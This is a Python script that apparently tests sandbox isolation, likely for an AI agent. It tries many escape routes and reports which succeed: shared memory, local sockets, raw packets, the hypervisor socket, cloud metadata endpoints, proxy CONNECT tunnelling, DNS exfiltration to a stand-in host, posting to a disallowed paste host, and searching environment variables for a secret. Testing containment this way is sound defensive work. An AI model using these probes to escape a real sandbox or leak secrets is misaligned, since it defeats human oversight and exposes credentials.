"""The ways out by memory, sockets and the network; run like `ways.py`, after it, in the same process."""

from __future__ import annotations

import base64
import ctypes
import json
import os
import socket
import sys
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

FACTS: dict[str, Any] = json.loads(sys.argv[1])
WORD = "S3KR3T"
LIBC = ctypes.CDLL(None, use_errno=True)
SECONDS = 3.0
WAYS: dict[str, Callable[[], object]] = {}


def way(function: Callable[[], object]) -> Callable[[], object]:
    WAYS[function.__name__] = function
    return function


def has(path: str) -> bool:
    return WORD in Path(path).read_text(errors="replace")


# ── memory and sockets ────────────────────────────────────────────────────────────────────────────────────────────────


@way
def read_shared_memory_of_system_v() -> object:
    LIBC.shmat.restype = ctypes.c_void_p
    found = LIBC.shmat(int(FACTS["shm"]), None, 0o10000)
    return ctypes.string_at(found, len(WORD)) == WORD.encode() if found not in (None, 2**64 - 1) else None


@way
def read_shared_memory_of_posix() -> object:
    return has(f"/dev/shm/{FACTS['posix']}")


@way
def connect_to_a_socket_of_the_machine() -> object:
    with socket.socket(socket.AF_UNIX) as link:
        link.connect(FACTS["unix"])
        return True


@way
def connect_to_an_abstract_socket() -> object:
    with socket.socket(socket.AF_UNIX) as link:
        link.connect("\0" + FACTS["abstract"])
        return True


def connects(family: int, address: object, kind: int = socket.SOCK_STREAM, protocol: int = 0) -> bool:
    with socket.socket(family, kind, protocol) as link:
        link.settimeout(SECONDS)
        link.connect(address)  # type: ignore[arg-type]
        if kind != socket.SOCK_STREAM:
            link.send(b"x")
        return True


@way
def connect_to_a_server_of_the_machine() -> object:
    return connects(socket.AF_INET, ("127.0.0.1", FACTS["tcp"]))


@way
def connect_to_it_by_ipv6() -> object:
    return connects(socket.AF_INET6, ("::ffff:127.0.0.1", FACTS["tcp"]))


@way
def connect_to_it_by_another_tcp() -> object:
    return connects(socket.AF_INET, ("127.0.0.1", FACTS["tcp"]), protocol=262)


@way
def connect_to_it_by_sending() -> object:
    with socket.socket() as link:
        link.settimeout(SECONDS)
        return link.sendto(b"x", 0x20000000, ("127.0.0.1", FACTS["tcp"]))


@way
def send_a_datagram_to_the_machine() -> object:
    return answers(("127.0.0.1", FACTS["udp"]))


@way
def ask_a_name_server() -> object:
    return answers(("192.0.2.53", 53), wait=False)


def answers(address: tuple[str, int], *, wait: bool = True) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.settimeout(SECONDS)
        link.sendto(b"x", address)
        return link.recv(16) if wait else True


@way
def resolve_a_name() -> object:
    return socket.getaddrinfo("exfiltrated-words.example.org", 443)


@way
def send_a_raw_packet() -> object:
    return connects(socket.AF_INET, ("127.0.0.1", 0), socket.SOCK_RAW, socket.IPPROTO_ICMP)


@way
def listen_to_the_wire() -> object:
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)


@way
def talk_to_the_hypervisor() -> object:
    return connects(40, (2, 1024))


@way
def take_the_role_of_the_machine() -> object:
    return connects(socket.AF_INET, ("169.254.169.254", 80))


@way
def take_the_role_of_the_task() -> object:
    return connects(socket.AF_INET, ("169.254.170.2", 80))


@way
def take_the_role_by_ipv6() -> object:
    return connects(socket.AF_INET6, ("fd00:ec2::254", 80))


def through_the_proxy(host: str, port: int) -> bool:
    proxy = urllib.request.urlparse(os.environ["HTTPS_PROXY"])  # type: ignore[attr-defined]
    login = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
    with socket.create_connection((proxy.hostname, proxy.port), timeout=SECONDS) as link:
        head = f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: Basic {login}\r\n\r\n"
        link.sendall(head.encode())
        return link.recv(16).split()[1] == b"200"


@way
def take_the_role_through_the_proxy() -> object:
    return through_the_proxy("169.254.169.254", 443) or through_the_proxy("[::ffff:169.254.169.254]", 443)


@way
def reach_the_machine_through_the_proxy() -> object:
    return through_the_proxy("127.0.0.1", FACTS["tcp"]) or through_the_proxy("localhost", 443)


@way
def reach_a_private_address_by_an_allowed_name() -> object:
    return through_the_proxy("rebound.example", 443)


@way
def send_to_a_host_that_is_not_allowed() -> object:
    return through_the_proxy("paste.example", 443)


@way
def send_to_an_allowed_host_without_tls() -> object:
    request = urllib.request.Request("http://rebound.example/", data=b"words", method="POST")
    return urllib.request.urlopen(request, timeout=SECONDS)


@way
def ask_the_model_with_another_token() -> object:
    address = os.environ.get("ANTHROPIC_BASE_URL", "")
    request = urllib.request.Request(f"{address}/v1/messages", data=b"{}", headers={"x-api-key": "sk-ant-guessed"})
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    return opener.open(request, timeout=SECONDS)


@way
def find_the_key_of_the_model() -> object:
    return WORD in json.dumps(dict(os.environ))


def main() -> None:
    found = {}
    for name, function in WAYS.items():
        try:
            found[name] = bool(function())
        except (OSError, ValueError, KeyError, urllib.error.URLError):
            found[name] = False
    print(json.dumps(found), flush=True)


if __name__ == "__main__":
    main()
